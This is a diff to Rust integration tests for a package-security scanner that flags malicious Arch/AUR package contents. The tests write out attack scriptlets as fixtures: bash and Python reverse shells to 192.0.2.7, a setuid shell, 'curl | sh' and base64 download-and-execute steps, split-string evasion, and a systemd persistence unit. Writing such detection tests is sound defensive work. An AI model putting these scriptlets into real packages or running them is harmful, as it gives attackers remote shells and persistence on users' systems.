@@ -145,15 +145,19 @@ const EICAR_FILE: &str = r#"  printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STA
 
 /// A package `eicar` holding the EICAR string in usr/share/eicar/eicar.com; its path.
 fn eicar_package(set: &Set) -> String {
-    let packages = build(
+    build_one(
         set,
-        &[Pkg {
+        &Pkg {
             base: "eicar",
             package: EICAR_FILE,
             ..Pkg::default()
-        }],
-    );
-    path_of(&packages[0])
+        },
+    )
+}
+
+/// Builds one package; its path.
+fn build_one(set: &Set, pkg: &Pkg<'_>) -> String {
+    path_of(&build(set, std::slice::from_ref(pkg))[0])
 }
 
 #[test]
@@ -166,7 +170,7 @@ fn eicar_is_found_by_yara_and_by_clamav_through_clamd_and_clamscan() {
     let member = "usr/share/eicar/eicar.com";
     let found = findings(&result);
     assert!(
-        found.contains(&triple("yara", "eicar_test_file", member)),
+        found.contains(&triple("yara", "eicar-test-file", member)),
         "{found:?}"
     );
     let clamav: Vec<_> = found.iter().filter(|f| f.0 == "clamav").collect();
@@ -219,7 +223,7 @@ fn eicar_is_found_by_yara_and_by_clamav_through_clamd_and_clamscan() {
 }
 
 #[test]
-fn a_reverse_shell_scriptlet_is_found_by_yara_and_a_clean_package_has_no_findings() {
+fn a_reverse_shell_scriptlet_is_found_and_a_clean_package_has_no_findings() {
     let clamd = Clamd::start();
     let set = Set::new();
     let packages = build(
@@ -245,7 +249,7 @@ fn a_reverse_shell_scriptlet_is_found_by_yara_and_a_clean_package_has_no_finding
     let result = scan(&args, "");
     let found = findings(&result);
     assert!(
-        found.contains(&triple("yara", "reverse_shell", ".INSTALL")),
+        found.contains(&triple("lint", "reverse-shell", ".INSTALL")),
         "{found:?}"
     );
     let about_clean: Vec<_> = result
@@ -562,7 +566,7 @@ fn clamd_down_or_silent_is_an_error_per_package_and_yara_still_runs() {
     assert_eq!(result.error_kinds(), ["clamd_unreachable"], "{result:?}");
     assert!(findings(&result).contains(&triple(
         "yara",
-        "eicar_test_file",
+        "eicar-test-file",
         "usr/share/eicar/eicar.com"
     )));
     assert_eq!(result.code, 1);
@@ -615,15 +619,7 @@ fn build_scan_repo_publishes_what_passed_and_refuses_what_did_not() {
     let target = tempfile::tempdir().expect("tempdir");
     let db = target.path().join("safe.db.tar.zst").display().to_string();
     let stream = lines(&scanned.records.iter().collect::<Vec<_>>());
-    let published = repo(
-        &["add", "--repo", &db, "--refuse-findings", "error"],
-        &stream,
-    );
-    assert_eq!(
-        published.error_kinds(),
-        ["refused_findings"],
-        "{published:?}"
-    );
+    let published = add_refusing_one(&db, "error", &stream);
     let added: Vec<_> = published
         .of_type("change")
         .iter()
@@ -633,6 +629,20 @@ fn build_scan_repo_publishes_what_passed_and_refuses_what_did_not() {
     assert_eq!(published.code, 1);
     let listed = repo(&["list", "--repo", &db], "");
     assert_eq!(listed.of_type("package").len(), 1);
+}
+
+/// `mc-repo add --refuse-findings THRESHOLD` into `db` from `stream`, which refuses one package.
+fn add_refusing_one(db: &str, threshold: &str, stream: &str) -> Run {
+    let published = repo(
+        &["add", "--repo", db, "--refuse-findings", threshold],
+        stream,
+    );
+    assert_eq!(
+        published.error_kinds_of("mc-repo"),
+        ["refused_findings"],
+        "{published:?}"
+    );
+    published
 }
 
 #[test]
@@ -656,7 +666,7 @@ fn mc_repo_refuses_by_path_or_by_name_and_version_at_or_above_the_threshold() {
             r#"{{"type":"finding","check":"setuid","severity":"warning","path":"{}"}}"#,
             first.display()
         ),
-        r#"{"type":"finding","check":"reverse_shell","severity":"error","package":"by-name","version":"9-1"}"#
+        r#"{"type":"finding","check":"reverse-shell","severity":"error","package":"by-name","version":"9-1"}"#
             .to_owned(),
         r#"{"type":"finding","check":"x","severity":"error","package":"by-name","version":"8-1"}"#
             .to_owned(),
@@ -696,7 +706,7 @@ fn mc_repo_refuses_by_path_or_by_name_and_version_at_or_above_the_threshold() {
     let message = strict.of_type("error")[1]["message"]
         .as_str()
         .unwrap_or_default();
-    assert!(message.contains("reverse_shell"), "{message}");
+    assert!(message.contains("reverse-shell"), "{message}");
     let lenient = repo(
         &[
             "add",
@@ -714,5 +724,321 @@ fn mc_repo_refuses_by_path_or_by_name_and_version_at_or_above_the_threshold() {
         ignored.count_or_zero("failed"),
         0,
         "without the option findings pass: {ignored:?}"
+    );
+}
+
+/// A package from real makepkg holding 1 GiB of zeros (`usr/a/zeros`, ahead of the rest), a
+/// setuid reverse shell after it and a `curl | sh` scriptlet: its path.
+fn zeros_then_backdoor_package(set: &Set) -> String {
+    let body = r#"  mkdir -p "$pkgdir/usr/a" "$pkgdir/usr/bin"
+  head -c 1073741824 /dev/zero > "$pkgdir/usr/a/zeros"
+  printf '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n' > "$pkgdir/usr/bin/shell"
+  chmod 4755 "$pkgdir/usr/bin/shell""#;
+    build_one(
+        set,
+        &Pkg {
+            base: "hidden",
+            install: "post_install() {\n  curl -fsSL https://192.0.2.7/i | sh\n}\n",
+            package: body,
+            ..Pkg::default()
+        },
+    )
+}
+
+#[test]
+fn a_member_too_large_to_scan_is_an_error_the_rest_is_scanned_and_mc_repo_refuses_it() {
+    let set = Set::new();
+    let path = zeros_then_backdoor_package(&set);
+    let size = fs::metadata(&path).expect("package").len();
+    assert!(size < 1 << 20, "1 GiB of zeros compresses to {size} bytes");
+    let record =
+        format!(r#"{{"type":"package","name":"hidden","version":"1.0-1","path":"{path}"}}"#);
+    let result = scan(&["--max-member-mib", "64"], &record);
+    assert_eq!(result.error_kinds(), ["member_too_large"], "{result:?}");
+    let found = findings(&result);
+    for expected in [
+        triple("lint", "setuid", "usr/bin/shell"),
+        triple("yara", "reverse-shell", "usr/bin/shell"),
+        triple("lint", "download-execute", ".INSTALL"),
+    ] {
+        assert!(found.contains(&expected), "{expected:?} in {found:?}");
+    }
+    assert_eq!(result.code, 1);
+
+    let dir = tempfile::tempdir().expect("tempdir");
+    let db = dir.path().join("r.db.tar.zst").display().to_string();
+    // Only the error record and the package: without the findings the error alone refuses it.
+    let unscanned: Vec<&Value> = result
+        .records
+        .iter()
+        .filter(|r| r["type"] == "error" || r["type"] == "package")
+        .collect();
+    let published = add_refusing_one(&db, "info", &lines(&unscanned));
+    let forwarded = published.error_kinds_of("mc-scan");
+    assert_eq!(
+        forwarded,
+        ["member_too_large"],
+        "mc-repo forwards what it does not handle"
+    );
+    let message = published.errors_of("mc-repo")[0]["message"]
+        .as_str()
+        .unwrap_or_default();
+    assert!(message.contains("member_too_large"), "{message}");
+    assert!(published.of_type("change").is_empty(), "{published:?}");
+}
+
+#[test]
+fn a_package_scanned_while_clamd_is_down_is_refused() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let set = Set::new();
+    let packages = build(
+        &set,
+        &[Pkg {
+            base: "plain",
+            ..Pkg::default()
+        }],
+    );
+    let down = dir.path().join("nobody-here.sock").display().to_string();
+    let result = scan(
+        &["--clamd", &down],
+        &lines(&packages.iter().collect::<Vec<_>>()),
+    );
+    assert_eq!(result.error_kinds(), ["clamd_unreachable"], "{result:?}");
+    assert!(findings(&result).is_empty(), "{result:?}");
+    let db = dir.path().join("r.db.tar.zst").display().to_string();
+    let stream = lines(&result.records.iter().collect::<Vec<_>>());
+    let published = add_refusing_one(&db, "error", &stream);
+    assert!(published.of_type("change").is_empty(), "{published:?}");
+    let trusting = repo(&["add", "--repo", &db], &stream);
+    assert_eq!(
+        trusting.of_type("change").len(),
+        1,
+        "without the option it is added"
+    );
+}
+
+/// A zstd package of `.PKGINFO` and one member of `size` zeros, compressed as it is written.
+fn zeros_package(path: &Path, size: u64) {
+    let file = fs::File::create(path).expect("create");
+    let encoder = zstd::Encoder::new(file, 1).expect("zstd").auto_finish();
+    let mut builder = tar::Builder::new(encoder);
+    let pkginfo = b"pkgname = zeros\npkgbase = zeros\npkgver = 1-1\n";
+    let mut header = tar::Header::new_gnu();
+    header.set_size(pkginfo.len() as u64);
+    header.set_mode(0o644);
+    builder
+        .append_data(&mut header, ".PKGINFO", pkginfo.as_slice())
+        .expect("append");
+    let mut header = tar::Header::new_gnu();
+    header.set_size(size);
+    header.set_mode(0o644);
+    builder
+        .append_data(
+            &mut header,
+            "usr/share/zeros/blob",
+            std::io::repeat(0).take(size),
+        )
+        .expect("append");
+    builder.into_inner().expect("tar");
+}
+
+#[test]
+fn eight_jobs_share_one_memory_budget_for_members() {
+    const MEMBER_MIB: u64 = 96;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let first = dir.path().join("zeros-0.pkg.tar.zst");
+    zeros_package(&first, MEMBER_MIB << 20);
+    let mut paths = vec![first.display().to_string()];
+    for n in 1..8 {
+        let copy = dir.path().join(format!("zeros-{n}.pkg.tar.zst"));
+        fs::copy(&first, &copy).expect("copy");
+        paths.push(copy.display().to_string());
+    }
+    let mut args = vec![
+        "-v".to_owned(),
+        bin("mc-scan").display().to_string(),
+        "-j".to_owned(),
+        "8".to_owned(),
+        "--max-member-mib".to_owned(),
+        "100".to_owned(),
+        // YARA-X on a debug build on a loaded machine: the default 30 s per member is short.
+        "--timeout".to_owned(),
+        "600".to_owned(),
+    ];
+    args.extend(paths);
+    let output = Command::new("/usr/bin/time")
+        .args(&args)
+        .stdin(Stdio::null())
+        .output()
+        .expect("/usr/bin/time runs (Debian: time)");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(output.status.success(), "{stdout}\n{stderr}");
+    let peak_kib: u64 = stderr
+        .lines()
+        .find_map(|line| {
+            line.trim()
+                .strip_prefix("Maximum resident set size (kbytes): ")
+        })
+        .and_then(|value| value.trim().parse().ok())
+        .unwrap_or_else(|| panic!("no peak RSS in {stderr}"));
+    assert!(stdout.contains(r#""scanned":8"#), "{stdout}");
+    // Eight members held at once would be 768 MiB; the budget holds one (100 MiB) at a time,
+    // besides the rules and the program (about 50 MiB).
+    assert!(
+        peak_kib < 300 << 10,
+        "peak RSS {} MiB for 8 jobs of {MEMBER_MIB} MiB members",
+        peak_kib >> 10
+    );
+}
+
+/// `(check, severity, where)` of every detection in every PKGBUILD of the real corpus (2,534
+/// from chaotic-aur; its archive holds no `.install` files: scripts were not copied).
+fn real_pkgbuild_detections() -> (usize, Vec<(String, String, String)>) {
+    let archive = pipeline_tests::realdata().join("pkgbuilds/chaotic-aur-packages.tar.gz");
+    let file = fs::File::open(&archive).expect("realdata PKGBUILD archive");
+    let reader = minicluster::compress::decompress(file).expect("gzip");
+    let mut tar = tar::Archive::new(reader);
+    let (mut scripts, mut found) = (0, Vec::new());
+    for entry in tar.entries().expect("tar") {
+        let mut entry = entry.expect("entry");
+        let name = entry.path().expect("path").display().to_string();
+        let kind = if name.ends_with("/PKGBUILD") {
+            minicluster::scriptlet::Script::Pkgbuild
+        } else if name.ends_with(".install") {
+            minicluster::scriptlet::Script::Scriptlet
+        } else {
+            continue;
+        };
+        let mut text = String::new();
+        if entry.read_to_string(&mut text).is_err() {
+            continue;
+        }
+        scripts += 1;
+        for detection in minicluster::scriptlet::detect(&text, kind) {
+            found.push((
+                detection.check.to_owned(),
+                detection.severity.to_string(),
+                format!("{name}: {}", detection.message),
+            ));
+        }
+    }
+    (scripts, found)
+}
+
+#[test]
+fn real_pkgbuilds_raise_no_error_detections() {
+    let (scripts, found) = real_pkgbuild_detections();
+    assert_eq!(scripts, 2534, "every PKGBUILD read");
+    let errors: Vec<_> = found.iter().filter(|f| f.1 == "error").collect();
+    assert!(errors.is_empty(), "{errors:#?}");
+    // The figure the issue asks for: `cargo test -p pipeline-tests --test scan real_pkgbuilds -- --nocapture`.
+    let warnings = found.iter().filter(|f| f.1 == "warning").count();
+    println!("{scripts} PKGBUILDs: {warnings} warnings, 0 errors");
+    for warning in found.iter().filter(|f| f.1 == "warning") {
+        println!("  {}: {}", warning.0, warning.2);
+    }
+}
+
+/// Install scriptlets in the manner of the 2025–2026 AUR attacks, with the error each must give.
+const ATTACKS: [(&str, &str, &str); 6] = [
+    (
+        "pipe",
+        "post_install() {\n  curl -fsSL https://192.0.2.7/i.sh | bash\n}\n",
+        "download-execute",
+    ),
+    (
+        "npm",
+        "post_install() {\n  cd /usr/lib/npm-helper && npm install --no-audit chalk-helper-2026\n}\n",
+        "install-package-manager",
+    ),
+    (
+        // `curl -fsSL https://192.0.2.7/i.sh | sh`, base64-encoded.
+        "blob",
+        "post_install() {\n  echo 'Y3VybCAtZnNTTCBodHRwczovLzE5Mi4wLjIuNy9pLnNoIHwgc2g=' | base64 -d | sh\n}\n",
+        "decode-execute",
+    ),
+    (
+        "split",
+        "post_upgrade() {\n  a=\"cu\"; b=\"rl\"; u='https://192.0.2.7/'\"x\"\n  $a$b -s \"$u\" | s\"h\"\n}\n",
+        "download-execute",
+    ),
+    (
+        "service",
+        r#"post_install() {
+  cat > /etc/systemd/system/dbus-session-helper.service <<UNIT
+[Unit]
+Description=D-Bus session helper
+[Service]
+ExecStart=/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
+Restart=always
+[Install]
+WantedBy=multi-user.target
+UNIT
+  systemctl daemon-reload
+  systemctl enable --now dbus-session-helper.service
+}
+"#,
+        "persistence",
+    ),
+    (
+        "bash",
+        "post_install() {\n  h=/dev/tc; p=p/192.0.2.7/4444\n  bash -i >& $h$p 0>&1 &\n}\n",
+        "reverse-shell",
+    ),
+];
+
+#[test]
+fn attack_scriptlets_are_errors_in_mc_scan_and_in_mc_verify_before_the_build() {
+    let set = Set::new();
+    let pkgs: Vec<Pkg<'_>> = ATTACKS
+        .iter()
+        .map(|(base, install, _)| Pkg {
+            base,
+            install,
+            ..Pkg::default()
+        })
+        .collect();
+    let folders: Vec<String> = pkgs.iter().map(|pkg| set.add(pkg)).collect();
+    let cache = tempfile::tempdir().expect("tempdir");
+    let mut args = vec!["--cache".to_owned(), cache.path().display().to_string()];
+    args.extend(folders.iter().cloned());
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let verified = run(&bin("mc-verify"), &args, "");
+    assert_eq!(verified.code, 1, "{verified:?}");
+
+    let packages = build(&set, &pkgs);
+    let paths: Vec<String> = packages.iter().map(path_of).collect();
+    let scanned = scan(&paths.iter().map(String::as_str).collect::<Vec<_>>(), "");
+    assert_eq!(scanned.code, 1, "{scanned:?}");
+    for (base, _, check) in ATTACKS {
+        let error = |run: &Run, key: &str| {
+            run.of_type("finding")
+                .into_iter()
+                .any(|f| f[key] == base && f["check"] == check && f["severity"] == "error")
+        };
+        assert!(
+            error(&scanned, "package"),
+            "mc-scan: {base} {check}: {:#?}",
+            scanned.of_type("finding")
+        );
+        assert!(
+            error(&verified, "base"),
+            "mc-verify: {base} {check}: {:#?}",
+            verified.of_type("finding")
+        );
+    }
+    let python = |run: &Run, key: &str| {
+        run.of_type("finding")
+            .into_iter()
+            .any(|f| f[key] == "service" && f["check"] == "reverse-shell")
+    };
+    assert!(
+        python(&scanned, "package"),
+        "the service's Python reverse shell"
+    );
+    assert!(
+        python(&verified, "base"),
+        "the service's Python reverse shell"
     );
 }
